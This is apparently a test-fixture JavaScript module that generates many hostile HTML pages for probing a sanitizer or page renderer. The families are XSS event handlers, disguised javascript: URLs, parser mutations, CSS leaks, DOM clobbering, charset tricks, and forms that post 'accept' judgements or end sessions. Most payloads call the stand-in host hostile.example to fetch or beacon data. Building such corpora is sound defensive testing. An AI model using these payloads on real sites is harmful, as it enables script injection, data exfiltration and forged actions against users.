// Hostile pages, some hundred, by family: ways to run a script, to call out, and to
// reach the page around them. Each is a whole file as somebody could have published
// it; what it would do is written down in CALL (ask another server) and ACT (run).
// The families follow what is known of sanitizers' failures: event attributes,
// javascript: addresses in disguise, foreign content and text that changes its
// meaning when it is parsed again, style sheets, refreshes, forms, bases, clobbered
// names, embedded documents, link relations, media, templates, charsets.

export const CALL = "http://hostile.example/";  // Where outside() listens.
export const ACT = "top.hacked=1;parent.hacked=1;window.hacked=1;top.document.title=1;localStorage.hacked=1;fetch('" + CALL + "script')";
const IMG = `<img src=x onerror="${ACT}">`;
const PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=";
const entities = (text) => [...text].map((one) => `&#${one.codePointAt(0)};`).join("");

/** What runs by itself: element and attribute. */
function eventAttributes() {
  const at = (open, attribute, close = "") => `${open} ${attribute}="${ACT}">${close}`;
  const focus = ["input", "textarea", "select", "button", "a href=#x", "div tabindex=1", "p contenteditable", "summary", "iframe", "area href=#x", "video controls", "svg tabindex=1"];
  const files = [["img src=x", "onerror"], [`img src="${PIXEL}"`, "onload"], ["video src=x", "onerror"], ["audio src=x", "onerror"], ["video", "onloadstart"], ["script src=x", "onerror"], ["link rel=stylesheet href=x", "onerror"],
    ["link rel=icon href=x", "onerror"], ["object data=x", "onerror"], ["embed src=x", "onload"], ["iframe src=about:blank", "onload"], ["iframe srcdoc=x", "onload"], ["input type=image src=x", "onerror"], ["frame src=x", "onload"], ["image src=x", "onerror"], ["style", "onload"], ["track src=x", "onerror"], ["source src=x", "onerror"]];
  const page = ["onload", "onpageshow", "onfocus", "onresize", "onscroll", "onhashchange", "onmessage", "onpopstate", "ononline", "onunload", "onbeforeunload", "onerror"];
  return [
    ...focus.map((one) => at(`<${one} autofocus`, "onfocus", "x")),
    ...focus.slice(0, 4).map((one) => at(`<${one} autofocus`, "onblur", "x")),
    ...files.map(([open, attribute]) => at(`<${open}`, attribute)),
    ...page.map((attribute) => at("<body", attribute)),
    ...["onload", "onbegin", "onrepeat", "onend"].map((attribute) => `<svg><animate attributeName=x dur=1s repeatCount=2 ${attribute}="${ACT}"/><set ${attribute}="${ACT}"/></svg>`),
    ...["onstart", "onbounce", "onfinish"].map((attribute) => at("<marquee loop=1 width=1", attribute, "x</marquee>")),
    ...["onanimationstart", "onanimationend", "onwebkitanimationstart"].map((attribute) => `<style>@keyframes k{to{opacity:.9}}</style><p style="animation:k 1ms" ${attribute}="${ACT}">x</p>`),
    at("<details open", "ontoggle", "x</details>"), at("<div popover=manual id=p", "onbeforetoggle", "x</div>"), at("<dialog open", "onclose", "x</dialog>"),
    at(`<p style="content-visibility:auto"`, "oncontentvisibilityautostatechange", "x</p>"), at("<svg", "onload", "</svg>"), at("<math", "onfocus", "</math>"),
    at("<img src=x", "OnErRoR"), `<img src=x onerror\n=\n"${ACT}">`, `<img/src=x/onerror="${ACT}">`, `<img src=x onerror='${ACT.replaceAll("'", "&apos;")}'>`, `<img src=x onerror="${entities(ACT)}">`, `<img src=x\x0Conerror="${ACT}">`, `<img src="x" title="a>b" onerror="${ACT}">`, `<img src=x onerror="${ACT}`,
  ];
}

/** javascript: as it is and in disguise, wherever an address may stand. */
function scriptAddresses() {
  const plain = `javascript:${ACT}`;
  const disguises = [plain, `JaVaScRiPt:${ACT}`, `java\tscript:${ACT}`, `java\nscript:${ACT}`, `java&#x09;script:${ACT}`, `java&NewLine;script&colon;${ACT}`, `&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58${ACT}`, entities(plain), `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${ACT}`, `\x01\x02 ${plain}`, ` &#14; ${plain}`, `javascript://%0a${ACT}`, `javascript:/*--></title></style></textarea>*/${ACT}`, `view-source:${plain}`, `data:text/html,<script>${ACT}</script>`, `data:text/html;base64,${Buffer.from(`<script>${ACT}</script>`).toString("base64")}`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ACT.replaceAll("'", "&quot;")}'/>`, `vbscript:${ACT}`, `blob:${CALL}x`];
  const carriers = [(to) => `<iframe src="${to}"></iframe>`, (to) => `<object data="${to}"></object>`, (to) => `<a href="${to}">soldiers</a><a href="${to}" target=_top>tanks</a>`, (to) => `<form action="${to}"><button>x</button></form><form><button formaction="${to}">x</button></form>`];
  return [
    ...disguises.flatMap((to) => carriers.map((carrier) => carrier(to))),
    ...[plain, disguises[14]].flatMap((to) => [`<embed src="${to}">`, `<img src="${to}">`, `<body background="${to}">`, `<link rel=stylesheet href="${to}">`, `<meta http-equiv=refresh content="0;url=${to}">`, `<base href="${to}"><a href=x>x</a>`, `<svg><a xlink:href="${to}"><text y=9>x</text></a></svg>`, `<math href="${to}">x</math>`, `<svg><a><animate attributeName=href values="${to}" begin=0s fill=freeze /><text y=9>x</text></a></svg>`, `<area href="${to}" shape=default><map name=m></map>`, `<input type=image formaction="${to}">`, `<video src="${to}" poster="${to}">`, `<svg><use href="${to}#a"/></svg>`, `<frameset><frame src="${to}"></frameset>`]),
  ];
}

/** Foreign content, and text that becomes markup when it is parsed once more. */
function mutations() {
  const places = [
    ["<svg>", "</svg>"], ["<math>", "</math>"], ["<svg><foreignObject>", "</foreignObject></svg>"], ["<svg><desc>", "</desc></svg>"], ["<svg><title>", "</title></svg>"], ["<svg><style>", "</style></svg>"], ["<math><mtext>", "</mtext></math>"], ["<math><mtext><mglyph>", "</mglyph></mtext></math>"],
    ["<math><mtext><malignmark>", "</malignmark></mtext></math>"], ["<math><annotation-xml encoding=text/html>", "</annotation-xml></math>"], ["<math><annotation-xml encoding=application/xhtml+xml>", "</annotation-xml></math>"], ["<math><style>", "</style></math>"], ["<svg><p><style>", "</style></p></svg>"],
    ["<form><math><mtext></form><form><mglyph><style>", "</style></mglyph></form></math>"], ["<noscript>", "</noscript>"], ["<noembed>", "</noembed>"], ["<noframes>", "</noframes>"], ["<iframe>", "</iframe>"], ["<xmp>", "</xmp>"], ["<textarea>", "</textarea>"], ["<title>", "</title>"], ["<style>", "</style>"],
    ["<template>", "</template>"], ["<select><option>", "</option></select>"], ["<select><style>", "</style></select>"], ["<table><tr>", "<td></table>"], ["<table><caption><svg>", "</svg></caption></table>"], ["<!--", "-->"], ["<!-->", "-->"], ["<!--->", "--!>"], ["<![CDATA[", "]]>"], ["<?xml ", "?>"], ["<svg><![CDATA[", "]]></svg>"], ["<button><p><button>", "</button>"], ["<a><table><a>", "</a></table>"],
  ];
  const closers = { "<noscript>": "</noscript>", "<title>": "</title>", "<style>": "</style>", "<xmp>": "</xmp>", "<textarea>": "</textarea>", "<iframe>": "</iframe>", "<noembed>": "</noembed>", "<noframes>": "</noframes>" };
  return [
    ...places.map(([open, close]) => `${open}${IMG}${close}`),
    ...places.map(([open, close]) => `${open}<img title="${(closers[open] ?? "--></style></title>")}${IMG.replaceAll('"', "&quot;")}">${close}`),
    ...places.slice(0, 15).map(([open, close]) => `${open}<script>${ACT}</script>${close}`),
    ...Object.entries(closers).map(([open, close]) => `${open}<a title="${close}<img src=x onerror=${ACT.replaceAll(";", "&semi;").replaceAll("'", "&quot;")}>">x</a>${close}`),
    `<svg><script>${ACT}</script></svg>`, `<svg><script href="${CALL}a.js"/></svg>`, `<svg><script xlink:href="data:text/javascript,${ACT}"/></svg>`, `<svg><image href="${CALL}i.svg"/><use href="${CALL}u.svg#a"/></svg>`, `<svg><feImage href="${CALL}fe.png"/></svg>`, `<svg><style>@import "${CALL}svg.css";</style></svg>`,
    `<svg><foreignObject><iframe src="${CALL}fo"></iframe></foreignObject></svg>`, `<svg><set attributeName=onmouseover to="${ACT}"/></svg>`, `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${ACT}</handler></svg>`, `<math><maction actiontype="statusline#${CALL}">x</maction></math>`, `<math xlink:href="${CALL}m">x</math>`, `<svg><a><rect width=9 height=9 /><animate attributeName=href to="javascript:${ACT}"/></a></svg>`,
    `<listing>&lt;img src=x onerror="${ACT}"&gt;</listing>`, `<plaintext><script>${ACT}</script>`, `<p title="&lt;/p&gt;${IMG.replaceAll('"', "&quot;")}">x</p>`, `&lt;script&gt;${ACT}&lt;/script&gt;`, `<scr<script>ipt>${ACT}</scr</script>ipt>`, `<script\x00>${ACT}</script>`, `<<script>${ACT}//<</script>`, `<script x>${ACT}</script x>`, `<script>${ACT}`, `<script type=module>${ACT}</script>`, `<script src="${CALL}a.js"></script>`, `<script type=importmap>{"imports":{"a":"${CALL}m.js"}}</script><script type=module>import "a"</script>`,
  ];
}

/** Style sheets that fetch, cover the page, or read what stands in it. */
function styles() {
  const url = (name) => `${CALL}css-${name}`;
  const sheets = [
    `@import "${url("a")}";`, `@import url(${url("b")});`, `@import url('${url("c")}') screen;`, `@IMPORT/**/"${url("d")}";`, `@\\69mport "${url("e")}";`, `@import "//hostile.example/f";`, `@charset "utf-8";@import "${url("g")}" layer(x);`, `@import "${url("h")}" supports(display:block);`,
    `@font-face{font-family:x;src:url(${url("i")})} *{font-family:x}`, `@font-face{font-family:y;src:url("${url("j")}") format("woff2");unicode-range:U+41} body{font-family:y}`, `@namespace url(${url("k")});`, `@counter-style s{system:cyclic;symbols:url(${url("l")})} li{list-style:s}`, `@property --x{syntax:"<url>";inherits:false;initial-value:url(${url("m")})}`,
    `p[title^=a]{background:url(${url("n")})} p:not([title^=b]){background:url(${url("o")})}`, `input[value^="1"]{background:url(${url("p")})}`, `a:visited{background:url(${url("q")})} a:link{background:url(${url("r")})}`, `html{background:\\75rl(${url("s")})}`, `body{background:u/**/rl(${url("t")})} body{background:url(${url("u")})}`, `body::before{content:url(${url("v")})}`, `body{--a:url(${url("w")});background:var(--a)}`,
    `body{background:image-set(url(${url("x")}) 1x)} p{background:-webkit-image-set(url(${url("y")}) 1x)}`, `body{background:-webkit-cross-fade(url(${url("z")}),url(${url("aa")}),50%)}`, `*{position:fixed;inset:0;z-index:9;background:url(${url("ab")})}`, `body{behavior:url(${url("ac")});-moz-binding:url(${url("ad")}#x)}`, `body{width:expression(${ACT})}`, `</style>${IMG}<style>`,
  ];
  const properties = ["background", "background-image", "border-image", "list-style-image", "cursor", "content", "mask", "-webkit-mask-image", "filter", "clip-path", "shape-outside", "offset-path", "backdrop-filter", "-webkit-box-reflect:below 0"];
  return [
    ...sheets.map((sheet) => `<style>${sheet}</style><p title=abc>x</p><li>x</li><input value=123><a href=x>x</a>`),
    ...properties.map((name) => `<p style="display:list-item;width:9px;height:9px;${name}${name.includes(":") ? " " : ":"}url(${url(name.replaceAll(/\W/g, ""))})">x</p>`),
    ...["fill", "stroke", "filter", "mask", "clip-path", "marker-start", "cursor"].map((name) => `<svg><path d="M0 0L9 9" ${name}="url(${url(`svg-${name}`)}#a)"/></svg>`),
    `<link rel=stylesheet href="${url("link")}">`, `<link rel="alternate stylesheet" title=x href="${url("alt")}">`, `<style media=print>@import "${url("print")}";</style>`, `<?xml-stylesheet href="${url("pi")}"?>`, `<link rel=stylesheet href="data:text/css,@import '${url("data")}';">`,
  ];
}

/** What goes by itself, and what goes when somebody presses it. */
function departures() {
  return [
    ...[`0;url=${CALL}r1`, `0;${CALL}r2`, `0; URL='${CALL}r3'`, `1,url="${CALL}r4"`, `.1;url=${CALL}r5`, `0\n;\nurl\n=\n${CALL}r6`, `0;url=//hostile.example/r7`, "0", `0;url=data:text/html,<script>${ACT}</script>`].map((to) => `<meta http-equiv=refresh content="${to.replaceAll('"', "&quot;")}">`),
    `<META HTTP-EQUIV="ReFrEsH" CONTENT="0;url=${CALL}r8">`, `<noscript><meta http-equiv=refresh content="0;url=${CALL}r9"></noscript>`, `<svg><meta http-equiv=refresh content="0;url=${CALL}r10"></svg>`,
    `<meta http-equiv=Content-Security-Policy content="default-src *; script-src 'unsafe-inline'"><script>${ACT}</script>`, `<meta name=referrer content=unsafe-url>${IMG}`, `<meta http-equiv=Set-Cookie content="hearsay=1">`, `<meta http-equiv=accept-ch content="DPR"><meta http-equiv=x-dns-prefetch-control content=on><a href="${CALL}dns">x</a>`,
    ...["post", "get", "dialog"].map((how) => `<form method=${how} action="${CALL}form-${how}"><input name=a value=b><button autofocus>x</button></form>`), `<form id=f></form><button form=f formaction="${CALL}fa">x</button>`, `<form action="${CALL}img"><input type=image src="${CALL}submit.png"></form>`, `<form action="/api/judgements" method=post enctype=text/plain><input name='{"verb":"accept","x":"' value='"}'><button>x</button></form>`, `<form action="/api/session/end" method=post target=_top><button>x</button></form>`, `<isindex action="${CALL}isindex" prompt=x>`, `<form action="${CALL}f" onformdata="${ACT}"><button>x</button></form>`, `<form target=_blank action="${CALL}blank"><button>x</button></form>`,
    `<base href="${CALL}"><img src=based.png><a href=next>x</a>`, `<base target=_top><a href="${CALL}top">x</a>`, `<base href="javascript:/a/"><a href=x>x</a>`, `<head><base href="${CALL}two/"><script src=a.js></script></head>`, `<svg><base href="${CALL}svg/"/></svg><img src=s.png>`, `<noscript><base href="${CALL}ns/"></noscript><img src=n.png>`,
    ...["_top", "_parent", "_blank", "_self", "hearsay", "main"].map((target) => `<a href="${CALL}click-${target}" target=${target}>soldiers</a>`), `<a href="${CALL}ping-to" ping="${CALL}ping">x</a>`, `<a href="/api/session/end" target=_top>x</a>`, `<a href="${CALL}d" download=x.html>x</a>`, `<map name=m><area shape=default href="${CALL}area"></map><img usemap=#m src="${PIXEL}">`,
  ];
}

/** Names that stand in the way of the page's own. */
function clobberings() {
  const names = ["getElementById", "querySelector", "createElement", "body", "head", "forms", "cookie", "location", "defaultView", "documentElement", "activeElement", "title", "page", "main", "find", "top", "parent", "self", "hacked", "history", "localStorage", "hearsay", "__proto__", "constructor", "attributes", "childNodes", "parentNode", "nodeName", "textContent", "dataset"];
  const kinds = [(name) => `<form name="${name}"><input name="${name}" id="${name}"></form>`, (name) => `<img name="${name}" id="${name}">`, (name) => `<a id="${name}"></a><a id="${name}" name=x href="${CALL}clob"></a>`, (name) => `<iframe name="${name}" srcdoc="<a id=${name}>"></iframe>`, (name) => `<object id="${name}" name="${name}"></object><embed name="${name}">`];
  return names.map((name, index) => kinds[index % kinds.length](name));
}

/** Documents in documents, relations of links, pictures and sounds. */
function embeddings() {
  const as = ["image", "script", "style", "font", "fetch", "document", "audio", "track", "worker"];
  const relations = ["prefetch", "prerender", "dns-prefetch", "preconnect", "manifest", "icon", "shortcut icon", "apple-touch-icon", "mask-icon", "modulepreload", "import", "pingback", "search", "next", "alternate", "compression-dictionary", "expect", "subresource", "privacy-policy"];
  return [
    ...as.map((what) => `<link rel=preload as=${what} href="${CALL}preload-${what}" crossorigin>`), ...relations.map((what) => `<link rel="${what}" href="${CALL}${what.replaceAll(/\W/g, "")}">`),
    `<link rel=preload as=image imagesrcset="${CALL}set.png 1x">`, `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${CALL}spec"]}]}</script>`, `<img src="${CALL}attr.png" attributionsrc="${CALL}attribution">`,
    `<iframe src="${CALL}frame"></iframe>`, `<iframe srcdoc="&lt;script>${ACT}&lt;/script>&lt;img src=${CALL}f.png>"></iframe>`, `<iframe srcdoc="${entities(`<script>${ACT}</script>`)}"></iframe>`, `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="&lt;script>${ACT}&lt;/script>"></iframe>`, `<iframe src="/events"></iframe>`, `<iframe src="../../"></iframe>`, `<iframe csp="x" src="${CALL}csp" loading=eager></iframe>`,
    `<object data="${CALL}o.swf" type=application/x-shockwave-flash><param name=movie value="${CALL}p.swf"></object>`, `<object data="${CALL}o.svg"></object>`, `<object data="${CALL}o.pdf" type=application/pdf></object>`, `<embed src="${CALL}e.swf">`, `<embed src="${CALL}e.pdf" type=application/pdf>`, `<applet code="${CALL}a.class"></applet>`, `<frameset><frame src="${CALL}fs"></frameset>`, `<portal src="${CALL}portal"></portal>`, `<fencedframe src="${CALL}fenced"></fencedframe>`, `<object type=text/html data="data:text/html,<script>${ACT}</script>"></object>`, `<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>"></object>`, `<iframe src="filesystem:${CALL}x"></iframe>`, `<iframe src="about:srcdoc"></iframe>`,
    `<img src="${CALL}beacon.png">`, `<img src="//hostile.example/relative.png">`, `<img src="https://hostile.example/tls.png">`, `<img srcset="${CALL}a.png 1x, ${CALL}b.png 2x">`, `<img loading=lazy src="${CALL}lazy.png">`, `<picture><source srcset="${CALL}p.webp"><img alt=""></picture>`, `<input type=image src="${CALL}input.png">`, `<video src="${CALL}v.mp4" poster="${CALL}v.png" autoplay></video>`, `<video autoplay><source src="${CALL}vs.mp4"><track default src="${CALL}t.vtt"></video>`, `<audio autoplay src="${CALL}a.mp3"></audio>`, `<body background="${CALL}bg.png">`, `<table background="${CALL}tb.png"><tr><td background="${CALL}td.png">x</table>`, `<img lowsrc="${CALL}low.png" dynsrc="${CALL}dyn.avi">`, `<image src="${CALL}image.png">`, `<bgsound src="${CALL}bg.mid">`, `<layer src="${CALL}layer"></layer>`, `<html manifest="${CALL}cache.manifest">`, `<body><img usemap=#x longdesc="${CALL}long" src=x>`, `<svg><pattern><image href="${CALL}pattern.png"/></pattern></svg>`, `<video controls crossorigin src="${CALL}c.mp4" preload=auto></video>`,
    `<template>${IMG}</template>`, `<div><template shadowrootmode=open>${IMG}<style>@import "${CALL}shadow.css";</style></template></div>`, `<div><template shadowrootmode=closed><script>${ACT}</script></template></div>`, `<template><template>${IMG}</template></template>`, `<noscript>${IMG}</noscript>`, `<noscript><style>@import "${CALL}ns.css";</style></noscript>`, `<script>document.write('<img src=${CALL}w.png>')</script>`, `<script async src="data:text/javascript,${ACT}"></script>`, `<script>new WebSocket("ws://hostile.example/ws")</script>`, `<script>navigator.sendBeacon("${CALL}beacon")</script>`, `<script>open("${CALL}open")</script>`, `<script>top.location="${CALL}topnav"</script>`, `<script>parent.postMessage("x","*");${ACT}</script>`, `<script>navigator.serviceWorker.register("/assets/x.js")</script>`, `<script>history.pushState(0,0,"/events");${ACT}</script>`,
  ];
}

/** Bytes that say one thing in one charset and another in another. */
function charsets(before, after) {
  const whole = (head, middle) => Buffer.concat([Buffer.from(`<!doctype html><html><head>${head}`), Buffer.from(before), middle, Buffer.from(after)]);
  const text = (head, words) => whole(head, Buffer.from(words, "latin1"));
  const utf16 = (words, order) => {
    const bytes = Buffer.from(`\ufeff<!doctype html><html><head>${before}${words}${after}`, "utf16le");
    return order === "be" ? bytes.swap16() : bytes;
  };
  const inner = `<img src=x onerror="${ACT}">`;
  return [
    text(`<meta charset="utf-7">`, `+ADw-script+AD4-${ACT}+ADw-/script+AD4-`), text(`<meta http-equiv=Content-Type content="text/html; charset=utf-7">`, `+ADw-img src=x onerror=+ACI-${ACT}+ACIAPg-`), text(`<meta charset="iso-2022-jp">`, `<a title="\x1b$B">${inner}\x1b(B">x</a>`), text(`<meta charset="iso-2022-jp">`, `<a title="\x1b(J">\\"${inner}">x</a>`), text(`<meta charset="hz-gb-2312">`, `~{<script>${ACT}</script>~}`), text(`<meta charset="gbk">`, `<a title="\x81">${inner}">x</a>`), text(`<meta charset="shift_jis">`, `<a title="\x83">${inner}">x</a>`), text(`<meta charset="big5">`, `<a title="\xf9">${inner}">x</a>`), text(`<meta charset="x-user-defined">`, inner), text(`<meta charset="utf-16">`, inner), text(`<meta charset="replacement">`, inner), text(`<meta charset="utf-8">`, `\xc0\xbcscript\xc0\xbe${ACT}\xc0\xbc/script\xc0\xbe`), text(`<meta charset="utf-8">`, `\xe0\x80\xbc${inner}\xff\xfe`), text("", `<scr\0ipt>${ACT}</scr\0ipt>\0${inner}`), text(`<meta charset="windows-1252"><meta charset="utf-8">`, `\x8bscript\x9b${inner}`), utf16(inner, "le"), utf16(inner, "be"), text(`<meta charset="ibm866">`, inner),
  ];
}

/** All pages: {family, marker, bytes}. Each begins with its marker and a sentence that is a report's. */
export function hostilePages() {
  const families = { events: eventAttributes(), addresses: scriptAddresses(), mutations: mutations(), styles: styles(), departures: departures(), clobbering: clobberings(), embedding: embeddings() };
  const out = [];
  const marked = (number) => [`<title>Marker ${number}.</title></head><body><article><h1>Marker ${number}.</h1><p>At least ${number + 10} soldiers were killed near Port Mirel, a hospital official said.</p>`, `<p>The words &lt;script&gt;top.hacked=1&lt;/script&gt; stand here as words.</p></article></body></html>`];
  for (const [family, payloads] of Object.entries(families)) {
    for (const payload of payloads) {
      const [before, after] = marked(out.length);
      out.push({ family, marker: `Marker ${out.length}.`, bytes: Buffer.from(`<!doctype html><html><head><meta charset="utf-8">${before}${payload}${after}`) });
    }
  }
  const many = charsets("", "").length;
  for (let i = 0; i < many; ++i) {
    const [before, after] = marked(out.length);
    out.push({ family: "charsets", marker: `Marker ${out.length}.`, bytes: charsets(before, after)[i] });
  }
  return out;
}
